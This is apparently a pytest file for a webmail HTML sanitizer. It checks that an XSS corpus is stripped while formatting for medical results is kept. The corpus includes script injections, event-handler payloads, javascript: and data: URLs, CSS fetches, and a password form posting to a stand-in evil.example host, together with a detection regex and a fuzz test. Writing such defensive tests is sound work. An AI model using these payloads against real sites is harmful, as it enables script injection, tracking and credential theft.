"""The HTML mail sanitizer (webmail/sanitize.py) against an XSS corpus: nothing that can
run, fetch, navigate the frame or post a form survives; the formatting a doctor needs
does. The frame's CSP is the second wall; this is the first."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from webmail.sanitize import ALLOWED_TAGS, clean_html, frame_document

# Each entry must lose everything that could execute or reach the network.
XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '<body onload="alert(1)">',
    '<div onmouseover="alert(1)">survol</div>',
    '<a href="javascript:alert(1)">lien</a>',
    '<a href="  JaVaScRiPt:alert(1)">lien</a>',
    '<a href="java&#09;script:alert(1)">lien</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">lien</a>',
    '<a href="vbscript:msgbox(1)">lien</a>',
    '<svg onload="alert(1)"><circle r="10"/></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<math><mtext><script>alert(1)</script></mtext></math>',
    '<p style="background:url(https://evil.example/track.png)">x</p>',
    '<p style="background-image: u\\72l(https://evil.example/t.png)">x</p>',
    '<p style="width: expression(alert(1))">x</p>',
    '<style>@import "https://evil.example/x.css"; body{background:url(//evil.example)}</style>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><input name="mdp" type="password"><button>OK</button></form>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<img src="https://evil.example/pixel.gif" width="1" height="1">',
    '<img srcset="https://evil.example/a.png 1x">',
    '<video src="https://evil.example/v.mp4"></video><audio src="https://evil.example/a.mp3"></audio>',
    '<table background="https://evil.example/bg.png"><tr><td>x</td></tr></table>',
    "<!--<script>alert(1)</script>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="https://ok.example/" target="_self" rel="opener">lien</a>',
]

FORBIDDEN = re.compile(r"<script|<style|<svg|<math|<iframe|<object|<embed|<form|<input|<base|<meta|<link"
                       r"|<video|<audio|\son\w+\s*=|javascript:|vbscript:|data:text|url\(|expression\("
                       r"|https?://evil|srcset|background=|target=\"_self\"|rel=\"opener\"", re.I)


@pytest.mark.parametrize("html", XSS)
def test_nothing_dangerous_survives(html: str) -> None:
    cleaned = clean_html(html).html
    assert not FORBIDDEN.search(cleaned), cleaned


def test_remote_images_are_dropped_and_counted() -> None:
    cleaned = clean_html('<p>Bonjour</p><img src="https://tracker.example/p.gif">'
                         '<img src="http://tracker.example/q.gif"><img src="//x.example/r.png">'
                         '<img src="relative.png"><img src="cid:logo@x">'
                         '<img src="data:image/png;base64,iVBORw0KGgo=" alt="logo">')
    assert cleaned.remote_images == 4  # cid: is not remote
    assert "tracker" not in cleaned.html and "relative" not in cleaned.html and "cid:" not in cleaned.html
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in cleaned.html


def test_data_uris_other_than_images_are_dropped() -> None:
    cleaned = clean_html('<img src="data:text/html,<script>alert(1)</script>">'
                         '<img src="data:image/svg+xml;base64,PHN2Zz4=">')
    assert "data:" not in cleaned.html


def test_formatting_and_safe_links_are_kept() -> None:
    html = ('<h2>Résultats</h2><p style="color: #900; font-weight: bold; position: fixed">Glycémie '
            '<strong>élevée</strong></p><table border="1"><tr><th scope="col">Analyse</th></tr>'
            '<tr><td colspan="2">1,45 g/L</td></tr></table><ul><li>un</li></ul>'
            '<a href="https://www.example.fr/doc">document</a> <a href="mailto:lab@a.example">écrire</a>')
    cleaned = clean_html(html).html
    for kept in ("<h2>Résultats</h2>", "<strong>élevée</strong>", 'colspan="2"', "<li>un</li>",
                 'href="https://www.example.fr/doc"', 'href="mailto:lab@a.example"', "color:#900",
                 'rel="noopener noreferrer"', 'target="_blank"', 'scope="col"'):
        assert kept.replace(" ", "") in cleaned.replace(" ", ""), (kept, cleaned)
    assert "position" not in cleaned


def test_frame_document_wraps_the_body() -> None:
    document = frame_document(clean_html("<p>x</p>"))
    assert document.startswith("<!DOCTYPE html>") and "<p>x</p>" in document and 'lang="fr"' in document


class _Inspector(HTMLParser):
    """What a browser would build from the output: every tag and attribute."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag {tag}")
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on"):
                self.problems.append(f"handler {name}")
            if name == "href" and not value.startswith(("http:", "https:", "mailto:")):
                self.problems.append(f"href {value}")
            if name == "src" and not value.startswith("data:image/"):
                self.problems.append(f"src {value}")
            if name == "style" and ("url(" in value or "expression" in value or "\\" in value):
                self.problems.append(f"style {value}")


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(["<", ">", "\"", "'", "=", "/", " ", "script", "img", "src", "on",
                                 "error", "javascript:", "a", "href", "style", "url(", "svg", "x",
                                 "&#", "106;", "\\", "\t", "\n", "iframe", "meta", "base", "!--"]),
                max_size=40).map("".join))
def test_random_fragments_never_produce_dangerous_markup(fragment: str) -> None:
    """Built from the pieces of attacks: whatever their order, what the output parses to
    has only allowed tags, no handler, no script URL, no fetching style."""
    inspector = _Inspector()
    inspector.feed(clean_html(fragment).html)
    inspector.close()
    assert not inspector.problems, inspector.problems
